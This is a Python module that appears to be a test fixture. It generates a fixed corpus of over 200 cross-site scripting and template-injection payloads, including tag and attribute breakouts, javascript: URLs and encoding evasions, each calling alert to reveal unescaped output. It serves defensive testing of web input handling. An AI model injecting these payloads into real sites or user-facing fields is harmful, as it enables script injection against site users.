"""Text that was made to become markup, a script or a link: what hostile callers put into every field that is shown.

Each calls `alert`, so that one that works opens a dialog.
"""

TAGS = (
    "<script>{0}</script>",
    "<ScRiPt>{0}</sCrIpT>",
    "<script src=data:text/javascript,{0}></script>",
    "<script\n>{0}</script\t>",
    "<img src=x onerror={0}>",
    "<img src=x onerror='{0}'>",
    '<img src="x" onerror="{0}">',
    "<img/src=x/onerror={0}>",
    "<svg onload={0}>",
    "<svg/onload={0}>",
    "<svg><script>{0}</script></svg>",
    "<svg><animate onbegin={0} attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:{0}'><text y=20>x</text></a></svg>",
    "<svg><foreignObject><img src=x onerror={0}></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={0}>#x'/></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror={0}>'>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={0}>",
    "<math href='javascript:{0}'>x</math>",
    "<math><maction actiontype='statusline#' xlink:href='javascript:{0}'>x",
    "<body onload={0}>",
    "<input autofocus onfocus={0}>",
    "<select autofocus onfocus={0}>",
    "<textarea autofocus onfocus={0}>",
    "<details open ontoggle={0}>",
    "<video><source onerror={0}></video>",
    "<video src=x onerror={0}>",
    "<audio src=x onerror={0}>",
    "<iframe src='javascript:{0}'></iframe>",
    "<iframe srcdoc='<script>{0}</script>'></iframe>",
    "<object data='javascript:{0}'></object>",
    "<embed src='javascript:{0}'>",
    "<marquee onstart={0}>",
    "<a href='javascript:{0}'>x</a>",
    "<a href='java&#x09;script:{0}'>x</a>",
    "<form action='javascript:{0}'><button>x</button></form>",
    "<button formaction='javascript:{0}'>x</button>",
    "<base href='javascript:/a/-{0}//'>",
    "<link rel=import href='data:text/html,<script>{0}</script>'>",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
    "<style>@import 'javascript:{0}';</style>",
    "<div style='background:url(javascript:{0})'>x</div>",
    "<x onclick={0} tabindex=1 autofocus onfocus={0}>",
    "<template><script>{0}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={0}>'>",
    "<plaintext onmouseover={0}>",
    "<table background='javascript:{0}'>",
    "<isindex type=image src=1 onerror={0}>",
    "<img src=`x` onerror=`{0}`>",
)
AROUND = (
    "'\"><img src=x onerror={0}>",
    "'><svg/onload={0}>",
    '"><script>{0}</script>',
    "' onmouseover='{0}' x='",
    '" autofocus onfocus="{0}" x="',
    "--><script>{0}</script>",
    "]]><script>{0}</script>",
    "</title><script>{0}</script>",
    "</textarea><script>{0}</script>",
    "</style><script>{0}</script>",
    "</script><script>{0}</script>",
    "</pre><img src=x onerror={0}>",
    "</svg><img src=x onerror={0}>",
    "</text></g></a></svg><script>{0}</script>",
    "</time><script>{0}</script>",
    "</details></summary><script>{0}</script>",
    "*/{0}//",
    "';{0};//",
    '";{0};//',
    '\\";{0};//',
    "</option></select><img src=x onerror={0}>",
)
URLS = (
    "javascript:{0}",
    "JaVaScRiPt:{0}",
    "javascript://example.org/%0a{0}",
    "data:text/html,<script>{0}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:{0}",
    "//evil.example/{0}",
    'https://evil.example/"onmouseover={0}',
    "\x01javascript:{0}",
    "view-source:javascript:{0}",
)
TEMPLATES = (
    "{{{{{0}}}}}",
    "{{{{ constructor.constructor('{0}')() }}}}",
    "{{% print('{0}') %}}",
    "{{{{ ''.__class__.__mro__ }}}}{0}",
    "${{{0}}}",
    "#{{{0}}}",
    "<%= {0} %>",
    "{{{{ self.__init__.__globals__ }}}}<script>{0}</script>",
    "{{{{ x|safe }}}}<img src=x onerror={0}>",
)
ODD = (
    "＜script＞{0}＜/script＞",
    "\u202e<script>{0}</script>\u202c",
    "\ufeff<script>{0}</script>",
    "<scr\u0000ipt>{0}</script>",
    "&lt;script&gt;{0}&lt;/script&gt;",
    "&#60;script&#62;{0}&#60;/script&#62;",
    "%3Cscript%3E{0}%3C/script%3E",
    "\\u003cscript\\u003e{0}\\u003c/script\\u003e",
    "+ADw-script+AD4-{0}+ADw-/script+AD4-",
    "<\u017fcript>{0}</\u017fcript>",
    "<img src=x onerror=\u2028{0}>",
    '{{"__proto__": {{"x": "<script>{0}</script>"}}}}',
)
CALLS = ("alert(1)", "alert`1`", "self['al'+'ert'](1)")


def corpus() -> list[str]:
    """The same 200 and more in every run, each only once."""
    shapes = (*TAGS, *AROUND, *URLS, *TEMPLATES, *ODD)
    made = [shape.format(call) for call in CALLS[:2] for shape in shapes]
    made += [shape.format(CALLS[2]) for shape in TAGS[:12]]
    return list(dict.fromkeys(made))
